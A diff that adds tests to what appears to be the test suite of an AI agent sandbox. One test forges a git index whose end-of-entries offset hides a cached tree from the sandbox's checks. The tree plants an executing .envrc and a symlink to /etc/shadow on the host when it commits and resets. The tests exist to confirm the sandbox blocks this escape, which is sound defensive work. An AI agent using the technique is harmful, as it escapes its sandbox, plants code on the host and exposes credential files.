@@ -927,6 +927,75 @@ PY
     fail "control: the host's threaded git does not read the hidden entry"
 }
 
+@test "workspace: an honest index with an end-of-entries extension and offset table (index.threads) commits" {
+  host_repo plain
+  bundle_usr "set -e; cd /workspace; mkdir d; i=0; while [ \$i -lt 12000 ]; do : >d/f\$i; i=\$((i+1)); done
+    git config --global index.recordEndOfIndexEntries true; git config --global index.recordOffsetTable true
+    git add d && git commit -q -m files && echo x >d/f1 && git -c index.threads=4 add d/f1 && echo DONE"
+  run ar run --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ] && [[ "$output" == *DONE* ]] || fail "run: $output"
+  run ar workspace "$ID" diff --format json
+  [ "$(jq -r '.changes[] | select(.path == ".git/index") | .protected // "none"' <<<"$output")" = none ] ||
+    fail "the honest index is protected: $(jq -c '.changes[] | select(.path == ".git/index")' <<<"$output")"
+  run ar workspace "$ID" commit
+  [ "$status" -eq 0 ] || fail "commit: $output"
+  python3 -c 'import sys; d = open(sys.argv[1], "rb").read(); assert d[-52:-48] == b"EOIE"' "$HOST/.git/index" ||
+    fail "the index has no EOIE"
+  [ "$(git -C "$HOST" -c index.threads=4 status --porcelain)" = "M  d/f1" ] || fail "host status: $(git -C "$HOST" status --porcelain | head)"
+}
+
+# An index's end-of-entries extension (EOIE) tells a git that reads with threads (the default
+# on more than one CPU) where its extensions start: that thread reads them from there, not
+# from the end of the entries.  The agent's index ends in an optional extension git skips,
+# whose data is a TREE extension naming the agent's root tree, and an EOIE pointing into it:
+# agentrt (and a git of one thread) saw no cached trees, the host's threaded `git commit`
+# recorded the agent's tree and `git reset --hard` wrote its .envrc and symlink.
+@test "escape: an index whose end-of-entries offset (EOIE) points git's threaded reader at a hidden cached tree" {
+  host_repo plain
+  tree0=$(git -C "$HOST" rev-parse HEAD^{tree})
+  bundle_usr "set -e; cd /workspace; T=\$(git rev-parse HEAD^{tree})
+    echo 'touch $T/marker-eoie' >.envrc && ln -s /etc/shadow notes.txt
+    export GIT_INDEX_FILE=/tmp/fx; git read-tree HEAD; git add -f .envrc notes.txt; X=\$(git write-tree)
+    unset GIT_INDEX_FILE; rm -f .envrc notes.txt
+    git read-tree HEAD && git write-tree >/dev/null && python3 /etc/eoie.py \$T \$X
+    cp .git/index /tmp/i1 && cp .git/index /tmp/i4
+    test \"\$(GIT_INDEX_FILE=/tmp/i1 git -c index.threads=1 write-tree)\" = \$T &&
+      test \"\$(GIT_INDEX_FILE=/tmp/i4 git -c index.threads=4 write-tree)\" = \$X && echo PLANTED \$X"
+  cat >"$BUNDLE/rootfs/etc/eoie.py" <<'PY'
+import hashlib, struct, sys
+t, x = bytes.fromhex(sys.argv[1]), bytes.fromhex(sys.argv[2])
+d = open(".git/index", "rb").read()[:-20]
+i = d.find(b"TREE")
+assert i > 0, "no cached root tree"
+size = struct.unpack(">I", d[i + 4:i + 8])[0]
+tree = bytearray(d[i + 8:i + 8 + size])
+j = tree.find(t)
+assert j > 0 and i + 8 + size == len(d)
+tree[j:j + 20] = x
+hidden = b"TREE" + struct.pack(">I", len(tree)) + bytes(tree)
+out = bytearray(d[:i]) + b"ZHID" + struct.pack(">I", len(hidden))
+off = len(out)
+out += hidden
+out += b"EOIE" + struct.pack(">I", 24) + struct.pack(">I", off) + hashlib.sha1(hidden[:8]).digest()
+open(".git/index", "wb").write(bytes(out) + hashlib.sha1(out).digest())
+PY
+  run ar run --bundle "$BUNDLE" "$ID"
+  [ "$status" -eq 0 ] && [[ "$output" == *PLANTED* ]] || fail "plant: $output"
+  forged=$(sed -n 's/^PLANTED //p' <<<"$output")
+  marked .git/index
+  run ar workspace "$ID" commit
+  [ "$status" -eq 0 ] && [[ "$output" == *"left out .git/index"* ]] || fail "commit: $output"
+  (cd "$HOST" && git -c index.threads=4 commit -q --allow-empty -m review && git reset -q --hard) >/dev/null 2>&1 </dev/null || true
+  [ "$(git -C "$HOST" rev-parse HEAD^{tree})" = "$tree0" ] || fail "the host's commit recorded $(git -C "$HOST" rev-parse HEAD^{tree})"
+  [ ! -e "$HOST/.envrc" ] && [ ! -L "$HOST/notes.txt" ] || fail "git reset --hard wrote the agent's files: $(ls -la "$HOST")"
+  # control: the index included, the host's threaded commit records the agent's tree (the test can fail)
+  run ar workspace "$ID" commit --include-protected .git/index
+  [ "$status" -eq 0 ] || fail "commit --include-protected: $output"
+  (cd "$HOST" && git -c index.threads=4 commit -q --allow-empty -m review2 && git reset -q --hard) >/dev/null 2>&1 </dev/null || true
+  [ "$(git -C "$HOST" rev-parse HEAD^{tree})" = "$forged" ] && grep -q marker-eoie "$HOST/.envrc" &&
+    [ "$(readlink "$HOST/notes.txt")" = /etc/shadow ] || fail "control: $(git -C "$HOST" log --stat -1; ls -la "$HOST")"
+}
+
 # The agent's commits are read too: a ref it changed names a commit whose
 # tree the host's `git checkout -- .`, `git restore .` or `git reset --hard`
 # writes.  A `.envrc`, cached bytecode or a symlink to a host file held back
